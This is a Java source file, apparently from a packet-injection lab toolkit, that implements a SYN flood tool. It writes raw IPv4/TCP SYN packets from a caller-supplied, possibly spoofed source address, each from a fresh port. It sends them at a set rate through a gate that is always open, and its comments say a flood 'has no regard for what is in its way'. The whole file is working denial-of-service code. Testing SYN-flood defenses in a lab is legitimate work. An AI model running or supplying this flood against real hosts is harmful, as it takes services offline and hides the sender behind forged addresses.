package io.tcpcopy.lab;

import io.tcpcopy.flow.Address;
import io.tcpcopy.flow.Endpoint;
import io.tcpcopy.inject.InjectCounter;
import io.tcpcopy.inject.InjectCounters;
import io.tcpcopy.inject.SocketSink;
import io.tcpcopy.inject.TargetGate;
import io.tcpcopy.inject.Targets;
import io.tcpcopy.inject.raw.RawOutlet;
import io.tcpcopy.loop.EventLoop;
import io.tcpcopy.loop.LoopTimer;
import io.tcpcopy.net.StartException;
import io.tcpcopy.packet.Ipv4Header;
import io.tcpcopy.packet.OutgoingPacket;
import io.tcpcopy.packet.TcpHeader;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Sends SYNs, each from another port, and never anything else. From an address that no host has, nobody answers for it
 * either.
 *
 * <p>Usage: {@code SynFlood FROM_ADDRESS TO_ADDRESS TO_PORT NUMBER PER_SECOND}. It prints how many were sent.
 */
public final class SynFlood {

    private static final int FIRST_PORT = 10_000;
    private static final int LENGTH = Ipv4Header.MIN_LENGTH + TcpHeader.MIN_LENGTH;
    private static final int WINDOW = 64_000;
    private static final int TTL = 64;
    private static final long INTERVAL_NS = TimeUnit.MILLISECONDS.toNanos(1);

    private final ByteBuffer packet = ByteBuffer.allocateDirect(LENGTH);
    private final TcpHeader tcp = new TcpHeader();
    private final int from;
    private final Endpoint to;
    private final int number;
    private final int perSecond;
    private final EventLoop loop = EventLoop.ofKernel();
    private final long startNs = loop.nowNs();
    private final LoopTimer timer = loop.timer(this::sendDue);
    private final OutgoingPacket view = new OutgoingPacket();
    private final SocketSink sink;
    private int sent;

    private SynFlood(int from, Endpoint to, int number, int perSecond) throws StartException {
        this.from = from;
        this.to = to;
        this.number = number;
        this.perSecond = perSecond;
        InjectCounters counters = new InjectCounters(loop::nowNs);
        sink = new SocketSink(loop, new Targets(List.of(to)), new OpenGate(), new RawOutlet(), counters);
    }

    /** A flood has no regard for what is in its way. */
    private static final class OpenGate implements TargetGate {
        @Override
        public void refresh() {
            // It never changes.
        }

        @Override
        public InjectCounter fate(int target) {
            return InjectCounter.SENT;
        }

        @Override
        public boolean isOpenForAll() {
            return true;
        }

        @Override
        public int mtu(int target) {
            return Ipv4Header.MAX_TOTAL_LENGTH;
        }

        @Override
        public int mtu() {
            return Ipv4Header.MAX_TOTAL_LENGTH;
        }
    }

    /** Starts it. */
    public static void main(String[] args) throws StartException {
        Endpoint to = new Endpoint(Address.parse(args[1]).orElseThrow(), Integer.parseInt(args[2]));
        new SynFlood(
                        Address.parse(args[0]).orElseThrow().bits(),
                        to,
                        Integer.parseInt(args[3]),
                        Integer.parseInt(args[4]))
                .run();
    }

    private void run() {
        timer.schedule(0);
        loop.onTurnEnd(sink::flush);
        loop.run();
        System.out.println(sink.counters().get(InjectCounter.SENT) + " SYNs sent");
        sink.close();
        loop.close();
    }

    private void sendDue() {
        long due = 1 + (loop.nowNs() - startNs) * perSecond / TimeUnit.SECONDS.toNanos(1);
        while (sent < Math.min(due, number)) {
            writeSyn(FIRST_PORT + sent);
            if (sink.isBatchFull()) {
                sink.flush();
            }
            sink.send(view.headers(packet, 0, LENGTH));
            sent++;
        }
        if (sent < number) {
            timer.schedule(INTERVAL_NS);
        } else {
            loop.stop();
        }
    }

    private void writeSyn(int port) {
        new Ipv4Header()
                .wrap(packet, 0)
                .headerLength(Ipv4Header.MIN_LENGTH)
                .ttl(TTL)
                .protocol(Ipv4Header.PROTOCOL_TCP)
                .source(from)
                .destination(to.address().bits());
        tcp.wrap(packet, Ipv4Header.MIN_LENGTH)
                .sourcePort(port)
                .destinationPort(to.port())
                .seq(port)
                .headerLength(TcpHeader.MIN_LENGTH)
                .flags(TcpHeader.SYN)
                .window(WINDOW);
    }
}
